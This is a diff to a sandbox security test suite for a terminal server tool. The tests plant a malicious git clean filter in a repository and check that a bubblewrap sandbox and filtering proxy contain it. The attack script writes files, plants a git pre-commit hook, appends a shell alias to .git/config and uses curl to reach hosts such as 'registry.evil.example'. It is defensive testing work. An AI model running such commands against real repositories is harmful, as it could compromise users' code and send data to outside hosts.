@@ -1,15 +1,18 @@
+import { spawnSync } from 'node:child_process';
 import { existsSync, mkdirSync, readFileSync, writeFileSync } from 'node:fs';
+import http from 'node:http';
+import type { AddressInfo } from 'node:net';
 import path from 'node:path';
 import { makeOutsideDir, openListener, plantCleanFilterRepository } from '../support/sandbox-attack';
 import { modern, StdioPeer } from '../support/stdio-peer';
-import { makeTempWorkspace, REPO_ROOT } from '../support/workspace';
+import { CLI_PATH, makeTempWorkspace, REPO_ROOT } from '../support/workspace';
 
 /*
  * Issue 16, against the real server and the real kernel: `git status` runs the clean filter the repository's own
  * config names (the policy says so and asks for approval in inspect and confirm; trusted runs it at once). Whatever
  * the mode, that program cannot write outside the workspace,
  * read the server user's credentials, the audit log or the server's installation, reach a listener on 127.0.0.1, or
- * read the server's environment; in inspect mode it cannot write the workspace either, and in no mode can it plant
+ * read the server's environment (with ALLOW_NETWORK it reaches only the allowed hosts, through the filtering proxy); in inspect mode it cannot write the workspace either, and in no mode can it plant
  * a git hook or change the repository's git config. With TERM_MCP_SANDBOX=off the same attack succeeds (which is
  * what shows these tests can fail) and plans and receipts say that no sandbox applied.
  */
@@ -31,7 +34,7 @@ interface Scene {
   gitConfig: string;
 }
 
-function attackScript(scene: Omit<Scene, 'gitConfig'>): string {
+function attackScript(scene: Omit<Scene, 'gitConfig'>, extraLines: readonly string[]): string {
   const ws = scene.workspace.root;
   return [
     'echo EVIL-RAN >&2',
@@ -44,11 +47,12 @@ function attackScript(scene: Omit<Scene, 'gitConfig'>): string {
     `echo pwned > '${ws}/written-by-hook' 2>/dev/null && echo WORKSPACE-WRITTEN >&2`,
     `echo 'echo hooked' > '${ws}/.git/hooks/pre-commit' 2>/dev/null && echo HOOK-PLANTED >&2`,
     `echo '[alias] x = !sh' >> '${ws}/.git/config' 2>/dev/null && echo GIT-CONFIG-CHANGED >&2`,
+    ...extraLines,
     'exit 1',
   ].join('\n');
 }
 
-async function setUp(): Promise<Scene> {
+async function setUp(extraLines: readonly string[] = []): Promise<Scene> {
   const workspace = makeTempWorkspace('term-mcp-attack-');
   const outside = makeOutsideDir('term-mcp-canary-');
   const home = path.join(outside.root, 'home');
@@ -62,7 +66,7 @@ async function setUp(): Promise<Scene> {
   writeFileSync(auditLog, `${AUDIT_SECRET}\n`);
   const listener = await openListener();
   const partial = { workspace, outside, home, canary, auditLog, listener };
-  const { gitConfig } = plantCleanFilterRepository(workspace.root, attackScript(partial));
+  const { gitConfig } = plantCleanFilterRepository(workspace.root, attackScript(partial, extraLines));
   return { ...partial, gitConfig };
 }
 
@@ -165,19 +169,59 @@ describe.each(['inspect', 'confirm', 'trusted'] as const)('sandboxed %s mode: a 
   });
 });
 
-describe('ALLOW_NETWORK on', () => {
-  it('shares the host network (unfiltered), says so, and keeps the file system confined', async () => {
-    const scene = await setUp();
-    const peer = startServer(scene, { APPROVAL_MODE: 'inspect', ALLOW_NETWORK: '1' });
+describe('ALLOW_NETWORK on, TERM_MCP_ALLOWED_DOMAINS=localhost', () => {
+  it('reaches an allowed host only through the filtering proxy: other hosts get 403, IP literals too, and there is no direct route', async () => {
+    const hits: string[] = [];
+    const destination = http.createServer((request, response) => {
+      hits.push(request.url ?? '');
+      response.end('registry answer\n');
+    });
+    await new Promise<void>((resolve) => destination.listen(0, '127.0.0.1', resolve));
+    const { port } = destination.address() as AddressInfo;
+    const curl = (label: string, options: string, url: string): string =>
+      `curl -s --max-time 20 -o /dev/null -w '${label}=%{http_code}/%{http_connect}\\n' ${options} '${url}' >&2`;
+    const scene = await setUp([
+      curl('ALLOWED', '', `http://localhost:${port}/through-proxy`),
+      curl('TUNNELLED', '-p', `http://localhost:${port}/through-tunnel`),
+      curl('OTHER-HOST', '', `http://registry.evil.example:${port}/`),
+      curl('IP-LITERAL', '-p', `http://127.0.0.1:${port}/`),
+      curl('DIRECT', "--noproxy '*'", `http://127.0.0.1:${port}/direct`),
+    ]);
+    const receiptKey = 'filtered-network-receipt-key-0123456789';
+    const peer = startServer(scene, { APPROVAL_MODE: 'inspect', ALLOW_NETWORK: '1', TERM_MCP_ALLOWED_DOMAINS: 'localhost', TERM_MCP_RECEIPT_KEY: receiptKey });
     try {
+      const plan = await peer.request(modern('tools/call', 'plan', { name: 'terminal_plan', arguments: { command: 'git status' } }));
+      const confinement = { sandbox: 'bubblewrap', network: 'filtered', allowed_domains: ['localhost'] };
+      expect(plan.result).toMatchObject({ structuredContent: { preview: { confinement } } });
       const receipt = await gitStatus(peer);
-      expect(receipt.confinement).toMatchObject({ sandbox: 'bubblewrap', network: 'on' });
-      expect(scene.listener.connections()).toBeGreaterThan(0);
+      const stderr = String(receipt.stderr);
+      expect(receipt.confinement).toMatchObject(confinement);
+      expect(stderr).toContain('EVIL-RAN');
+      expect(stderr).toContain('ALLOWED=200/000');
+      expect(stderr).toContain('TUNNELLED=200/200');
+      expect(stderr).toContain('OTHER-HOST=403/000');
+      expect(stderr).toContain('IP-LITERAL=000/403');
+      expect(stderr).toContain('DIRECT=000/000');
+      expect(hits).toEqual(['/through-proxy', '/through-tunnel']);
+      // The raw TCP listener of the attack (bash /dev/tcp to 127.0.0.1) is not reachable either: own network namespace.
+      expect(scene.listener.connections()).toBe(0);
+      expect(stderr).not.toContain('CONNECTED');
       expect(readFileSync(scene.canary, 'utf8')).toBe('untouched\n');
-      expect(String(receipt.stderr)).not.toContain(SECRET_KEY);
+      expect(stderr).not.toContain(SECRET_KEY);
+      expect(peer.stderr).toContain('network proxy refused a destination');
+      // The new fields are schema-valid and signed: widening the allow list afterwards breaks the signature.
+      const validate = (receiptToCheck: Record<string, unknown>): number | null => {
+        const file = path.join(scene.outside.root, 'receipt.json');
+        writeFileSync(file, JSON.stringify(receiptToCheck));
+        return spawnSync(process.execPath, [CLI_PATH, 'receipt', 'validate', file], { env: { PATH: process.env.PATH ?? '/usr/bin:/bin', TERM_MCP_RECEIPT_KEY: receiptKey }, encoding: 'utf8' }).status;
+      };
+      expect(validate(receipt)).toBe(0);
+      expect(validate({ ...receipt, confinement: { ...(receipt.confinement as object), allowed_domains: ['localhost', 'evil.example'] } })).toBe(1);
     } finally {
       await peer.end();
       await tearDown(scene);
+      destination.closeAllConnections();
+      await new Promise((resolve) => destination.close(resolve));
     }
   });
 });
@@ -212,6 +256,24 @@ describe('sandbox unavailable', () => {
         isError: true,
         structuredContent: { code: 'sandbox_unavailable', next_step: expect.stringContaining('bubblewrap') },
       });
+      expect(readFileSync(scene.canary, 'utf8')).toBe('untouched\n');
+      expect(peer.stderr).toContain('command sandbox unavailable');
+    } finally {
+      await peer.end();
+      await tearDown(scene);
+    }
+  });
+
+  it('with ALLOW_NETWORK, refuses every command when socat (the bridge to the proxy) is missing: no fallback to any network', async () => {
+    const scene = await setUp();
+    const peer = startServer(scene, { APPROVAL_MODE: 'trusted', ALLOW_NETWORK: '1', TERM_MCP_SOCAT: path.join(scene.outside.root, 'no-such-socat') });
+    try {
+      const answer = await peer.request(modern('tools/call', 'git', { name: 'terminal_execute', arguments: { command: 'git status' } }));
+      expect(answer.result).toMatchObject({
+        isError: true,
+        structuredContent: { code: 'sandbox_unavailable', next_step: expect.stringContaining('socat') },
+      });
+      expect(scene.listener.connections()).toBe(0);
       expect(readFileSync(scene.canary, 'utf8')).toBe('untouched\n');
       expect(peer.stderr).toContain('command sandbox unavailable');
     } finally {
